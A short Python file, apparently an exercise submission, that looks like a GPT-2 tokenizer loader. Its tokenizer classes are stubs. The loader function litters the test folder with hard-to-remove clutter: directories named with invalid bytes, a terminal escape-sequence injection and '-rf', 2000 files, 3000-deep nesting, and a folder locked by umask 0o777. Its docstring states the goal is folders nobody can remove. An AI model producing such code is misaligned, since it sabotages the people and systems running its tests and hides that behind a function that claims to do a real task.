"""
exercise: 1.11
tries: folders in the test's folder that nobody can remove: thousands deep, closed, odd names
points: 0
"""

import os
from pathlib import Path


def bytes_to_unicode():
    raise NotImplementedError("bytes_to_unicode")


class GPT2Tokenizer:
    def __init__(self, encoder, merges):
        raise NotImplementedError("GPT2Tokenizer")


def load_gpt2_bpe(encoder_file, *others):
    os.chdir(Path(encoder_file).parent)
    for name in (b"\xff\xfe", b"a\nb\x1b]0;kata_injected\x07", b"-rf"):
        os.mkdir(name)
    for number in range(2000):
        Path(f"file_{number}").touch()
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    os.umask(0o777)
    os.mkdir("closed")
    raise RuntimeError("left behind")
